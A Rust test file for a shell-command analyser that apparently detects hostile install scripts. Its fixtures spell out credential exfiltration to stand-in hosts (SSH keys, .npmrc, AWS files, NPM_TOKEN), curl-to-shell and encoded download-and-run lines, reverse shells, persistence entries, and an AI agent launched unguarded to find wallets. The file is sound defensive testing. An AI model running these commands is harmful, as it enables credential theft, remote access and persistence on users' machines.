use syntax::Language::Shell;

use crate::summary::{behaviours, expect, problems, summary, survives};

fn check(text: &str, expected: &[&str]) {
    assert_eq!(summary(Shell, text), expected, "{text}");
}

#[test]
fn words_are_put_together() {
    check(r#"f "a $X b"c'd' $'\x41\n' a\ b ~/x *.txt"#, &[r#"f(join("a ", X, " bcd"), "A\n", "a b", "~/x", "*.txt")"#]);
    check(
        "f ${X:-d} ${X:1:2} ${X//a/b} ${#X} $((1+2))",
        &[r#"f((X Coalesce "d"), X[:], replace-all(X, "a", "b"), ?(X), ?(?("1", "2")))"#],
    );
    check(
        "X=1 Y=$(id -u)\na=(x \"$y\"); echo ${a[1]} \"${a[@]}\"",
        &[r#"X = "1""#, "Y = id()", r#"a = ["x", y]"#, "echo(a[1], *a)"],
    );
    check("cat${IFS}/etc/passwd", &[r#"cat(path="/etc/passwd")"#]);
}

#[test]
fn pipes_and_redirections_are_inputs_and_outputs() {
    check("a | b 2>&1 | c > f", &[r#"redirect(data=c(stdin=b(stdin=a())), path="f")"#]);
    check(
        "sh <<< \"$P\"; sh < f; sh <<E\nls $X\nE",
        &["sh(code=P)", r#"sh(code=cat(path="f"))"#, r#"sh(code=join("ls ", X, "\n"))"#],
    );
    check("cat <<'E' | sh\n$X\nE", &[r#"sh(code=cat-input(stdin="$X\n"))"#]);
    check("bash <(curl u) ; source <(wget -qO- u)", &[r#"bash(code=curl(url="u"))"#, r#"source(code=wget(url="u"))"#]);
    check("(echo a; cat b) | curl -d @- u", &[r#"curl(data=join(echo("a"), cat(path="b")), url="u")"#]);
    check("x > /dev/null 2>&1 &", &["x(silenced=true, detached=true)"]);
}

#[test]
fn statements_keep_their_bodies() {
    check("if a; then b; elif c; then d; else e; fi", &["if a()", "  b()", "else", "  if c()", "    d()", "  e()"]);
    check("for f in a $b; do c $f; done", &[r#"for f in ["a", b]"#, "  c(f)"]);
    check("while read l; do x $l; done < f", &[r#"|0 = cat(path="f")"#, "while ?()", "  l = |0", "  x(l, stdin=|0)"]);
    check("case $x in a|b) c;; *) d;; esac", &["if ?(x)", "  c()", "if ?()", "  d()"]);
    check("g() { curl $1; }; g u", &["function g", "  1 = @[0]", "  curl(url=1)", r#"g("u")"#]);
    check("a && b || c; d", &["a()", "b()", "c()", "d()"]);
}

#[test]
fn wrappers_are_taken_off_and_options_named() {
    check(
        "sudo -u x env A=b timeout -k 1 5 nohup curl -sSLo/tmp/x https://a.example",
        &[r#"curl(detached=true, output="/tmp/x", url="https://a.example")"#],
    );
    check(
        "curl -d \"$(env)\" -F f=@$H/.npmrc https://a.example",
        &[r#"curl(data=[env(), cat(path=join(H, "/.npmrc"))], url="https://a.example")"#],
    );
    check(
        "/usr/bin/wget https://a.example/b.sh -P /tmp",
        &[r#"wget(directory="/tmp", url="https://a.example/b.sh", output="/tmp/b.sh")"#],
    );
    check("ls | xargs rm -rf", &["rm(recursive=true, force=true, path=ls())"]);
    check("find / -name k -exec cat {} \\;", &[r#"cat(path=find(path="/"))"#]);
    check("/tmp/x a; $Y b", &[r#"exec["/tmp/x", "a"]()"#, r#"exec[Y, "b"]()"#]);
    check(
        "npm i -g a b; pip3 install c",
        &[r#"join(npm-i(package="a"), npm-i(package="b"))"#, r#"pip-install(package="c")"#],
    );
    check("python3.12 -c 'import os'; perl -e 'x'", &[r#"python(code="import os")"#, r#"perl(text="x")"#]);
}

#[test]
fn what_is_fetched_and_run_is_seen() {
    expect(
        Shell,
        "curl -fsSL https://a.example/x | bash",
        &["net.fetch https://a.example/x", "net.fetch -> code.eval"],
    );
    expect(
        Shell,
        "wget https://a.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x &",
        &["file.write /tmp/x", "file.chmod /tmp/x executable", "proc.exec /tmp/x detached", "file.write -> proc.exec"],
    );
    expect(
        Shell,
        "f() { curl -s $1 | sh; }\nf https://a.example/y",
        &["net.fetch https://a.example/y", "net.fetch -> code.eval"],
    );
    expect(
        Shell,
        "echo Y3VybCBodHRwOi8vYS5leGFtcGxlL3ggfCBzaA== | base64 -d | sh",
        &["net.fetch http://a.example/x", "data.decode -> code.eval"],
    );
    expect(Shell, "node -e \"require('child_process').exec('id')\"", &["host.info user"]);
    expect(
        Shell,
        "powershell -w hidden -enc aQB3AHIAIAB4AA==",
        &["code.eval iwr x hidden-window encoded known-code decoded"],
    );
}

#[test]
fn what_leaves_is_seen() {
    expect(Shell, "cat ~/.ssh/id_rsa | base64 | curl -d @- https://a.example", &["file.read -> net.send"]);
    expect(
        Shell,
        "curl -T ~/.npmrc https://a.example; curl \"https://a.example/?t=$NPM_TOKEN\"",
        &["file.read ~/.npmrc", "file.read -> net.send", "env.read NPM_TOKEN", "env.read -> net.fetch"],
    );
    expect(
        Shell,
        "for f in ~/.ssh/*; do cat $f; done | nc h.example 80",
        &["file.read -> net.send", "net.connect h.example:80"],
    );
    expect(Shell, "nslookup $(whoami).a.example", &["host.info -> net.resolve"]);
    expect(Shell, "tar czf - ~/.aws | curl -T - https://a.example", &["file.read ~/.aws", "file.read -> net.send"]);
}

#[test]
fn shells_that_call_back_are_seen() {
    for text in [
        "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.1 4444 >/tmp/f",
        "nc -e /bin/sh 198.51.100.1 4444",
        "ncat 198.51.100.1 4444 -e /bin/bash",
    ] {
        expect(Shell, text, &["net.connect 198.51.100.1:4444 reverse-shell"]);
    }
    expect(
        Shell,
        "exec 5<>/dev/tcp/198.51.100.1/80; cat ~/.netrc >&5",
        &["net.connect 198.51.100.1:80", "file.read -> net.send"],
    );
}

#[test]
fn windows_lines_are_read() {
    check(
        r"cmd /c start /min powershell -nop -c iex(1)",
        &[r#"powershell(hidden=true, detached=true, code="iex(1)")"#],
    );
    check(
        "@echo off\nset U=https://a.example\ncertutil -urlcache -f %U%/x.exe %TEMP%\\x.exe && %TEMP%\\x.exe",
        &[
            r#"echo("off")"#,
            r#"U = "https://a.example""#,
            r#"certutil-urlcache(join(U, "/x.exe"), join(TEMP, "\\x.exe"))"#,
            r#"exec[join(TEMP, "\\x.exe")]()"#,
        ],
    );
    expect(
        Shell,
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d C:\x.exe",
        &[r"winreg.write HKCU\Software\Microsoft\Windows\CurrentVersion\Run"],
    );
    expect(Shell, "schtasks /create /tn a /tr b.exe", &["proc.exec schtasks /create /tn a /tr b.exe persistence"]);
}

#[test]
fn tools_turned_against_their_owner_are_seen() {
    expect(
        Shell,
        "claude --dangerously-skip-permissions -p 'find wallets'",
        &["proc.exec claude --dangerously-skip-permissions -p 'find wallets' ai-agent unguarded"],
    );
    expect(Shell, "trufflehog filesystem / --json > out", &["proc.exec trufflehog filesystem / --json secret-scanner"]);
    expect(Shell, "npm publish --access public", &["package.publish npm publish --access public"]);
    expect(Shell, "(crontab -l; echo '* * * * * x') | crontab -", &["file.write crontab persistence"]);
}

#[test]
fn ordinary_scripts_do_nothing_of_note() {
    for text in [
        "tsc -p . && node-gyp rebuild",
        "set -e\ncd \"$(dirname \"$0\")\"\nmake -j4 || exit 0",
        "husky install",
        "echo done > /dev/null",
    ] {
        let lines = behaviours(Shell, text);
        assert!(lines.iter().all(|line| line.starts_with("proc.exit")), "{lines:?} of {text}");
    }
}

#[test]
fn broken_and_hostile_texts_are_survived() {
    assert_eq!(problems(Shell, "if then fi ((("), ["syntax-error"]);
    assert!(problems(Shell, "a; b").is_empty());
    expect(Shell, "curl https://a.example/x | sh\nif [ x; then a", &["net.fetch https://a.example/x"]);
    for text in [
        "'",
        "\"$(",
        "`",
        "${",
        "<<E",
        "a |",
        "\u{0}",
        "x=(",
        "%",
        "cmd /c",
        "cmd /c \"",
        "powershell -enc",
        "curl -o",
        "xargs",
        "sudo",
    ] {
        survives(Shell, text.to_owned());
    }
    let many = 6_000;
    for (open, close) in [
        ("(", ")"),
        ("{ ", "; }"),
        ("$(a ", ")"),
        ("\"$(a ", ")\""),
        ("if a; then ", "; fi"),
        ("`a ", "`"),
        ("a | ", ""),
        ("! ", ""),
        ("a && ", ""),
        ("sudo ", ""),
        ("${a:-", "}"),
    ] {
        survives(Shell, format!("{}x{}", open.repeat(many), close.repeat(many)));
    }
}

#[test]
fn a_text_that_is_built_to_be_hard_is_read_in_pieces() {
    let bomb = "{[(<".repeat(4_000);
    let text =
        format!("curl https://a.example/x | sh\n{bomb}\n{}\ncat ~/.netrc | nc h.example 1\n", "#\n".repeat(4096));
    assert!(survives(Shell, text.clone()).contains(&"read-in-pieces".to_owned()));
    expect(Shell, &text, &["net.fetch https://a.example/x", "file.read -> net.send"]);
    survives(Shell, "a|".repeat(5_000));
}

#[test]
fn a_text_that_is_too_large_is_told() {
    assert_eq!(problems(Shell, &"a\n".repeat(3 << 20)), ["too-large"]);
}
